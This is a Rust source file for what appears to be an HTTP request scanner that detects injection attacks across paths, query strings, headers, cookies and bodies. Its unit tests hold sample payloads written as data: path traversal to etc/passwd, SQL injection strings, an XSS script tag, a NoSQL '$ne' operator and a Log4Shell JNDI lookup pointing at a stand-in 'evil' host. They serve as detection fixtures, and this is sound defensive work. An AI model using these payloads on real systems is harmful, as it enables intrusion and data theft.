//! Walking the input locations of an [`Exchange`] and running the signature rules on each.
//!
//! Locations: the whole path (path-shaped rules) and each path segment, query parameter names
//! and values, form fields, JSON string values (walked structurally, with their JSON path)
//! and object keys, XML text, other text bodies, the User-Agent / Referer / forwarded-for /
//! Origin headers and cookie values. Credentials are never scanned: the record stores them as
//! `[REDACTED]`, and the authorization header is skipped outright. Other headers, except
//! structured protocol headers (Accept, Cache-Control, Sec-CH-UA ...), get every rule but SSRF.
//!
//! The fast path: a decoded value made only of `[A-Za-z0-9_.@:+-]` (ids, numbers, emails,
//! enum words, dates, UUIDs) cannot carry any of the families, so it skips every rule.

use std::borrow::Cow;
use std::collections::HashSet;

use gw_model::{BodyEncoding, Confidence, Exchange, REDACTED};

use crate::decode::canonicalize;
use crate::fragment::{credential_field_fragment, evidence_fragment};
use crate::json_walk::{JsonItem, format_path, walk_json};
use crate::rules::{Place, RuleMeta, ScanValue, VALUE_RULES, byte_mask, is_mongo_operator_name};
use crate::user_agent::{SUSPICIOUS_UA, classify_user_agent};

/// Bodies larger than this are scanned only up to here (rounded down to a character).
pub const MAX_BODY_SCAN_BYTES: usize = 64 * 1024;

/// Headers that get every rule (values an attacker controls and applications log or use).
const SCANNED_HEADERS: &[&str] = &[
    "user-agent",
    "referer",
    "origin",
    "x-forwarded-for",
    "x-forwarded-host",
    "x-real-ip",
    "x-client-ip",
    "true-client-ip",
    "forwarded",
    "x-original-url",
    "x-rewrite-url",
];

/// Headers never scanned: credentials, and structured protocol headers whose syntax
/// (quotes, `;`, `=`, `*/*`) would read as injection.
const SKIPPED_HEADERS: &[&str] = &[
    "authorization",
    "proxy-authorization",
    "cookie",
    "set-cookie",
    "x-api-key",
    "api-key",
    "x-auth-token",
    "x-csrf-token",
    "host",
    "content-length",
    "accept",
    "accept-encoding",
    "accept-language",
    "accept-charset",
    "content-type",
    "connection",
    "cache-control",
    "pragma",
    "if-none-match",
    "if-match",
    "if-modified-since",
    "if-unmodified-since",
    "etag",
    "range",
    "sec-ch-ua",
    "sec-ch-ua-mobile",
    "sec-ch-ua-platform",
    "sec-fetch-site",
    "sec-fetch-mode",
    "sec-fetch-dest",
    "sec-fetch-user",
    "upgrade-insecure-requests",
    "te",
    "traceparent",
    "tracestate",
    "baggage",
    "keep-alive",
    "transfer-encoding",
    "content-encoding",
];

/// One rule hit at one location of a record.
#[derive(Clone, Debug, PartialEq)]
pub struct SignatureHit {
    pub rule: &'static RuleMeta,
    /// `query:id`, `body:$.items[0].note`, `header:user-agent`, `path`, `path:[2]`.
    pub location: String,
    pub confidence: Confidence,
    /// What in the value made the verdict.
    pub reason: String,
    /// Masked, truncated excerpt of the decoded value around the decisive part.
    pub fragment: String,
}

/// All signature hits of one record: injection rules on every input location, then the
/// user-agent check. Appends to `hits` (callers reuse one buffer across records).
pub fn scan_exchange(x: &Exchange, hits: &mut Vec<SignatureHit>) {
    scan_injections(x, hits);
    if let Some(hit) = scan_user_agent(x) {
        hits.push(hit);
    }
}

/// The user-agent verdict of a record, if any.
pub fn scan_user_agent(x: &Exchange) -> Option<SignatureHit> {
    let ua = x
        .client
        .user_agent
        .as_deref()
        .or_else(|| x.request.header("user-agent"));
    let verdict = classify_user_agent(ua)?;
    Some(SignatureHit {
        rule: &SUSPICIOUS_UA,
        location: "header:user-agent".into(),
        confidence: verdict.confidence,
        reason: verdict.reason,
        fragment: evidence_fragment(ua.unwrap_or(""), 0..ua.map_or(0, str::len)),
    })
}

/// Injection-rule hits over every input location of a record (no header cache; see
/// [`Scanner`] for the form detectors use).
pub fn scan_injections(x: &Exchange, hits: &mut Vec<SignatureHit>) {
    scan_injections_with(x, &mut NoCache, hits);
}

/// Header values that were scanned and found clean. Browser User-Agent and Referer values
/// repeat across thousands of records and are the longest values a record carries, so
/// remembering them saves most of the tokenizer time on benign traffic. The cache is exact
/// (whole strings, not hashes) and bounded; it changes cost, never results.
trait HeaderCache {
    fn is_known_clean(&self, value: &str) -> bool;
    fn remember_clean(&mut self, value: &str);
}

struct NoCache;

impl HeaderCache for NoCache {
    fn is_known_clean(&self, _: &str) -> bool {
        false
    }
    fn remember_clean(&mut self, _: &str) {}
}

/// Most distinct clean header values a [`Scanner`] remembers before it starts over.
pub const CLEAN_HEADER_CACHE_SIZE: usize = 4096;

/// A reusable scanner: [`scan_exchange`] plus a bounded cache of clean header values.
#[derive(Debug, Default)]
pub struct Scanner {
    clean_headers: CleanSet,
    /// User agents already classified as ordinary.
    ordinary_agents: CleanSet,
}

/// Values known to be clean. Hashed with foldhash's random per-set seed: cheaper than SipHash
/// on header values looked up for every record, and client-chosen values cannot be made to
/// collide without the seed; the set is bounded by [`CLEAN_HEADER_CACHE_SIZE`].
type CleanSet = HashSet<Box<str>, foldhash::fast::RandomState>;

impl HeaderCache for CleanSet {
    fn is_known_clean(&self, value: &str) -> bool {
        self.contains(value)
    }
    fn remember_clean(&mut self, value: &str) {
        if self.len() >= CLEAN_HEADER_CACHE_SIZE {
            self.clear();
        }
        self.insert(value.into());
    }
}

impl Scanner {
    pub fn new() -> Self {
        Scanner::default()
    }

    /// Same hits as [`scan_exchange`].
    pub fn scan_exchange(&mut self, x: &Exchange, hits: &mut Vec<SignatureHit>) {
        self.scan_injections(x, hits);
        if let Some(hit) = self.scan_user_agent(x) {
            hits.push(hit);
        }
    }

    /// Same verdict as [`scan_user_agent`], remembering ordinary agents.
    pub fn scan_user_agent(&mut self, x: &Exchange) -> Option<SignatureHit> {
        let ua = x
            .client
            .user_agent
            .as_deref()
            .or_else(|| x.request.header("user-agent"))?;
        if self.ordinary_agents.contains(ua) {
            return None;
        }
        let hit = scan_user_agent(x);
        if hit.is_none() && ua.len() <= 512 {
            self.ordinary_agents.remember_clean(ua);
        }
        hit
    }

    /// Same hits as [`scan_injections`].
    pub fn scan_injections(&mut self, x: &Exchange, hits: &mut Vec<SignatureHit>) {
        scan_injections_with(x, &mut self.clean_headers, hits);
    }
}

fn scan_header(
    place: Place,
    name: &str,
    value: &str,
    cache: &mut dyn HeaderCache,
    hits: &mut Vec<SignatureHit>,
) {
    if cache.is_known_clean(value) {
        return;
    }
    let before = hits.len();
    scan_value(place, name, &|| format!("header:{name}"), value, hits);
    if hits.len() == before && value.len() <= 512 {
        cache.remember_clean(value);
    }
}

fn scan_injections_with(x: &Exchange, cache: &mut dyn HeaderCache, hits: &mut Vec<SignatureHit>) {
    let req = &x.request;
    scan_value(Place::Path, "", &|| "path".into(), &req.path, hits);
    for (i, seg) in req
        .path
        .split('/')
        .enumerate()
        .filter(|(_, s)| !s.is_empty())
    {
        scan_value(Place::PathSegment, "", &|| format!("path:[{i}]"), seg, hits);
    }
    if let Some(q) = req.query.as_deref() {
        scan_pairs(Place::Query, q, hits);
    }
    if let Some(headers) = req.headers.as_deref() {
        for h in headers {
            let name = h.name.as_str();
            if name == "cookie" {
                scan_cookies(&h.value, hits);
            } else if SCANNED_HEADERS.contains(&name) {
                scan_header(Place::Header, name, &h.value, cache, hits);
            } else if !SKIPPED_HEADERS.contains(&name) {
                scan_header(Place::OtherHeader, name, &h.value, cache, hits);
            }
        }
    } else if let Some(ua) = x.client.user_agent.as_deref() {
        scan_header(Place::Header, "user-agent", ua, cache, hits);
    }
    if let Some(body) = req.body.as_ref()
        && !body.redacted
        && body.encoding == BodyEncoding::Utf8
        && let Some(text) = body.content.as_deref()
    {
        let text = truncate_to_char(text, MAX_BODY_SCAN_BYTES);
        scan_body(req.header("content-type").unwrap_or(""), text, hits);
    }
}

/// Runs the rules on one standalone value, as if it were the query parameter `name`. Used by
/// corpus tests and by callers that have values without a record.
pub fn scan_query_value(name: &str, raw: &str, hits: &mut Vec<SignatureHit>) {
    scan_value(Place::Query, name, &|| format!("query:{name}"), raw, hits);
}

fn truncate_to_char(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

fn scan_pairs(place: Place, s: &str, hits: &mut Vec<SignatureHit>) {
    for pair in s.split('&').filter(|p| !p.is_empty()) {
        let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
        let prefix = place.prefix();
        let name_decoded = canonicalize(name, true);
        let name_ref: &str = &name_decoded;
        if !is_safe_value(name_ref) {
            // Parameter names are input too (`1' OR 1=1--=x`, `user[$ne]=`).
            scan_value(
                place,
                "",
                &|| format!("{prefix}-name:{name_ref}"),
                name,
                hits,
            );
        }
        scan_value(
            place,
            name_ref,
            &|| format!("{prefix}:{name_ref}"),
            value,
            hits,
        );
    }
}

fn scan_cookies(header: &str, hits: &mut Vec<SignatureHit>) {
    if header == REDACTED {
        return;
    }
    for part in header.split(';') {
        let (name, value) = part.trim().split_once('=').unwrap_or(("", part.trim()));
        if value == REDACTED {
            continue;
        }
        if !is_safe_value(name) {
            scan_value(
                Place::Cookie,
                "",
                &|| format!("cookie-name:{name}"),
                name,
                hits,
            );
        }
        scan_value(
            Place::Cookie,
            name,
            &|| format!("cookie:{name}"),
            value,
            hits,
        );
    }
}

fn scan_body(content_type: &str, text: &str, hits: &mut Vec<SignatureHit>) {
    let ct = content_type.to_ascii_lowercase();
    let first = text.trim_start().as_bytes().first().copied();
    if ct.contains("x-www-form-urlencoded") {
        scan_pairs(Place::Form, text, hits);
        return;
    }
    if (ct.contains("json") || ct.is_empty() || ct.starts_with("text/plain"))
        && matches!(first, Some(b'{' | b'['))
    {
        walk_json(text, |item| match item {
            JsonItem::Key { path, key } => {
                if key.starts_with('$') && is_mongo_operator_name(key) {
                    let loc = || format!("body:{}.{key}", format_path(path));
                    scan_value(Place::JsonBody, key, &loc, key, hits);
                }
            }
            JsonItem::Str { path, value } => {
                let name = match path.last() {
                    Some(crate::json_walk::PathStep::Key(k)) => *k,
                    _ => "",
                };
                scan_value(
                    Place::JsonBody,
                    name,
                    &|| format!("body:{}", format_path(path)),
                    &value,
                    hits,
                );
            }
        });
        return;
    }
    if ct.contains("xml") || first == Some(b'<') {
        scan_value(Place::XmlBody, "", &|| "body".into(), text, hits);
        for node in xml_text_nodes(text) {
            scan_value(Place::TextBody, "", &|| "body:xml-text".into(), node, hits);
        }
        for value in xml_attribute_values(text) {
            scan_value(
                Place::TextBody,
                "",
                &|| "body:xml-attribute".into(),
                value,
                hits,
            );
        }
        return;
    }
    if ct.starts_with("multipart/") {
        // Part bodies may be binary; headers and short text parts still carry payloads.
        for part in text.split("\r\n\r\n").skip(1) {
            let value = part.split("\r\n--").next().unwrap_or(part);
            scan_value(
                Place::TextBody,
                "",
                &|| "body:multipart".into(),
                truncate_to_char(value, 4096),
                hits,
            );
        }
        return;
    }
    if looks_like_form(text) {
        scan_pairs(Place::Form, text, hits);
        return;
    }
    if ct.is_empty() && looks_url_encoded(text) {
        // A bare URL-encoded value (`UnIon+seleCt%0A`, `pay%3DAND+1%3D1`): clients that
        // post a form without a content type; the application reads it form-decoded.
        scan_value(Place::Form, "", &|| "body".into(), text, hits);
        return;
    }
    scan_value(Place::TextBody, "", &|| "body".into(), text, hits);
}

/// One token of URL syntax: no whitespace, and a `+` or a `%XX` escape in it.
fn looks_url_encoded(text: &str) -> bool {
    let b = text.as_bytes();
    !b.iter().any(u8::is_ascii_whitespace)
        && (memchr::memchr(b'+', b).is_some()
            || memchr::memchr_iter(b'%', b).any(|at| {
                b.get(at + 1..at + 3)
                    .is_some_and(|h| h.iter().all(u8::is_ascii_hexdigit))
            }))
}

/// A body without a usable content type that reads as `name=value&...`.
fn looks_like_form(text: &str) -> bool {
    let first = text.split('&').next().unwrap_or("");
    match first.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && !name
                    .bytes()
                    .any(|b| b.is_ascii_whitespace() || b == b'<' || b == b'{')
        }
        None => false,
    }
}

/// Text between tags of an XML document (attribute values stay with the XXE check).
fn xml_text_nodes(text: &str) -> impl Iterator<Item = &str> {
    text.split('<')
        .filter_map(|chunk| chunk.split_once('>').map(|(_, t)| t.trim()))
        .filter(|t| !t.is_empty())
}

/// Quoted attribute values inside XML tags (`<a probe="...">`).
fn xml_attribute_values(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    for chunk in text.split('<').skip(1) {
        let tag = chunk.split('>').next().unwrap_or(chunk);
        let mut rest = tag;
        while let Some(eq) = rest.find('=') {
            let after = rest[eq + 1..].trim_start();
            let Some(quote) = after.chars().next().filter(|c| *c == '"' || *c == '\'') else {
                rest = &rest[eq + 1..];
                continue;
            };
            let body = &after[1..];
            let end = body.find(quote).unwrap_or(body.len());
            out.push(&body[..end]);
            rest = &body[end..];
            if !rest.is_empty() {
                rest = &rest[1..];
            }
        }
    }
    out
}

/// Fields whose value is a secret even when it carries an injection (`password=' or 1=1--`):
/// the hit keeps its reason (the fingerprint), the evidence does not keep the value.
fn is_credential_name(name: &str) -> bool {
    const WORDS: &[&str] = &[
        "password",
        "passwd",
        "pwd",
        "secret",
        "token",
        "apikey",
        "api_key",
        "api-key",
        "auth",
        "session",
        "credential",
        "otp",
    ];
    if name.is_empty() {
        return false;
    }
    let lower = name.to_ascii_lowercase();
    WORDS.iter().any(|w| lower.contains(w))
}

/// The fast path: ids, numbers, emails, enum words, dates and UUIDs.
///
/// The corpus test found three shapes made of these characters that still attack, so they
/// leave the fast path: a `--` (SQL line comment: `1--`, `@@version--`), a `..` (a climb
/// written with textual hex, `..0x2fetc0x2fpasswd`) and a leading `.` (`.htaccess`).
pub fn is_safe_value(s: &str) -> bool {
    let b = s.as_bytes();
    b.iter()
        .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'@' | b':' | b'+' | b'-'))
        && b.first() != Some(&b'.')
        && memchr::memmem::find(b, b"--").is_none()
        && memchr::memmem::find(b, b"..").is_none()
}

/// Decodes `raw`, takes the fast path when possible, and runs every applicable rule.
fn scan_value(
    place: Place,
    name: &str,
    location: &dyn Fn() -> String,
    raw: &str,
    hits: &mut Vec<SignatureHit>,
) {
    if raw.is_empty() {
        return;
    }
    let text: Cow<'_, str> = canonicalize(raw, place.plus_is_space());
    if is_safe_value(&text) && !name.contains('$') {
        return;
    }
    let lower: Cow<'_, str> = if text.bytes().any(|b| b.is_ascii_uppercase()) {
        Cow::Owned(text.to_ascii_lowercase())
    } else {
        Cow::Borrowed(&text)
    };
    let value = ScanValue {
        place,
        name,
        text: &text,
        lower: &lower,
        bytes: byte_mask(&lower),
    };
    for rule in VALUE_RULES {
        if !rule.applies_to(place) {
            continue;
        }
        if let Some(v) = rule.check(&value) {
            hits.push(SignatureHit {
                rule: rule.meta(),
                location: location(),
                confidence: v.confidence,
                reason: v.reason,
                fragment: if is_credential_name(name) {
                    credential_field_fragment(name)
                } else {
                    evidence_fragment(&text, v.span)
                },
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use gw_model::{Body, Capture, Header, Source, SourceKind};
    use jiff::Timestamp;

    fn exchange(path: &str, query: Option<&str>, body: Option<&str>) -> Exchange {
        let src = Source {
            kind: SourceKind::Native,
            capture: Capture::Frontend,
            gateway: None,
            raw_ref: None,
        };
        let mut x = Exchange::new("x1", Timestamp::UNIX_EPOCH, src, "POST", path);
        x.request.query = query.map(str::to_string);
        x.request.headers = Some(vec![
            Header::new("content-type", "application/json"),
            Header::new("cookie", REDACTED),
            Header::new("authorization", REDACTED),
            Header::new("user-agent", "okhttp/4.12.0"),
        ]);
        x.request.body = body.map(Body::utf8);
        x
    }

    fn rules(hits: &[SignatureHit]) -> Vec<(&str, &str)> {
        hits.iter()
            .map(|h| (h.rule.id, h.location.as_str()))
            .collect()
    }

    #[test]
    fn locations_are_named() {
        let x = exchange(
            "/api/files/..%2f..%2fetc%2fpasswd",
            Some("id=1%27%20OR%20%271%27%3D%271&page=2"),
            Some(r#"{"user":{"name":"<script>alert(1)</script>","pw":{"$ne":null}},"n":3}"#),
        );
        let mut hits = Vec::new();
        scan_exchange(&x, &mut hits);
        let got = rules(&hits);
        assert!(got.contains(&("GW-T-SQLI", "query:id")), "{got:?}");
        assert!(got.contains(&("GW-T-TRAVERSAL", "path")), "{got:?}");
        assert!(got.contains(&("GW-T-XSS", "body:$.user.name")), "{got:?}");
        assert!(
            got.contains(&("GW-T-NOSQLI", "body:$.user.pw.$ne")),
            "{got:?}"
        );
        let sqli = hits.iter().find(|h| h.rule.id == "GW-T-SQLI").unwrap();
        assert!(sqli.reason.contains("s&sos"), "{}", sqli.reason);
    }

    #[test]
    fn credential_fields_keep_the_reason_but_not_the_value() {
        let x = exchange(
            "/login",
            None,
            Some(r#"{"user":"bob","password":"' or '1'='1' -- hunter2"}"#),
        );
        let mut hits = Vec::new();
        scan_exchange(&x, &mut hits);
        let h = hits
            .iter()
            .find(|h| h.location == "body:$.password")
            .expect("sqli in password");
        assert!(h.reason.contains("libinjection"), "{}", h.reason);
        assert!(!h.fragment.contains("hunter2"), "{}", h.fragment);
    }

    #[test]
    fn benign_api_call_has_no_hits() {
        let x = exchange(
            "/v1/orders/8f14e45f-ceea-467f-a0c1-3d5a9c1e2b77",
            Some("page=2&sort=-created_at&email=jane.doe%40example.com&q=red+shoes"),
            Some(
                r#"{"sku":"A-1","qty":2,"note":"Please leave it at the door, thanks!","tags":["gift","blue"]}"#,
            ),
        );
        let mut hits = Vec::new();
        scan_exchange(&x, &mut hits);
        assert!(hits.is_empty(), "{hits:?}");
    }

    #[test]
    fn scanner_cache_changes_cost_not_results() {
        let mut scanner = Scanner::new();
        let mut x = exchange("/", None, None);
        x.request
            .headers
            .as_mut()
            .unwrap()
            .push(Header::new("referer", "https://shop.example.com/a?b=(c)"));
        for _ in 0..3 {
            let (mut a, mut b) = (Vec::new(), Vec::new());
            scanner.scan_exchange(&x, &mut a);
            scan_exchange(&x, &mut b);
            assert_eq!(a, b);
        }
        x.request
            .headers
            .as_mut()
            .unwrap()
            .push(Header::new("referer", "https://x/?q=1' or '1'='1"));
        let mut hits = Vec::new();
        scanner.scan_exchange(&x, &mut hits);
        assert!(hits.iter().any(|h| h.rule.id == "GW-T-SQLI"), "{hits:?}");
    }

    #[test]
    fn bare_url_encoded_body_without_content_type_is_form_decoded() {
        let mut x = exchange("/post", None, Some("UnIon+seleCt+1,2--%0A"));
        x.request.headers = Some(vec![Header::new("user-agent", "curl/8.0")]);
        let mut hits = Vec::new();
        scan_exchange(&x, &mut hits);
        assert!(rules(&hits).contains(&("GW-T-SQLI", "body")), "{hits:?}");
        assert!(looks_url_encoded("a+b%2Fc"));
        assert!(!looks_url_encoded("plain text with spaces + more"));
        assert!(!looks_url_encoded("100%-sure"));
    }

    #[test]
    fn log4shell_in_any_header() {
        let mut x = exchange("/", None, None);
        x.request
            .headers
            .as_mut()
            .unwrap()
            .push(Header::new("x-api-version", "${jndi:ldap://evil/a}"));
        let mut hits = Vec::new();
        scan_exchange(&x, &mut hits);
        assert!(
            rules(&hits).contains(&("GW-T-JNDI", "header:x-api-version")),
            "{hits:?}"
        );
    }
}
